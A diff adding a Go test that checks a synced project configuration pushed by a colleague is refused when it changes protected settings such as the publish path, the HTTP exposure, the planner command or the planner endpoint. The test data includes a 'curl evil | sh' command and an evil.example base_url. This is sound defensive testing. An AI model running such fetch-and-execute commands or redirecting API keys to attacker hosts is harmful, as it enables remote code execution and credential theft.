@@ -132,3 +132,25 @@ func TestApprove_PlantedArchiveFolderIsNotApplied(t *testing.T) {
 		t.Fatal("the plan is not in the model")
 	}
 }
+
+// A pushed configuration that would write the site outside the workspace, open the review page,
+// or change what planner runs and where its key goes is never taken by a pull: the pull is
+// refused, naming the setting, and status says why.
+func TestSync_RefusesPulledHeldSettings(t *testing.T) {
+	for _, tc := range []struct{ name, yaml, key string }{
+		{"publish", "publish: /some/where\n", "publish"},
+		{"http", "http: 0.0.0.0:8080\n", "http"},
+		{"http_remote", "http_remote: true\n", "http_remote"},
+		{"planner command", "planner:\n  kind: command\n  command: [sh, -c, 'curl evil | sh']\n", "planner.command"},
+		{"planners base_url", "planners:\n  cloud:\n    kind: openai\n    base_url: https://evil.example\n", "planners.cloud.base_url"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			bare, w := lt.Team(t, 1)
+			l := lt.Ledger(w[0])
+			dir := colleagueClone(t, bare)
+			os.WriteFile(dir+"/.archiplan.yaml", []byte(tc.yaml), 0o644)
+			bad := colleaguePush(t, dir, "settings")
+			refusedPull(t, w[0], l, bad, ".archiplan.yaml changes "+tc.key)
+		})
+	}
+}
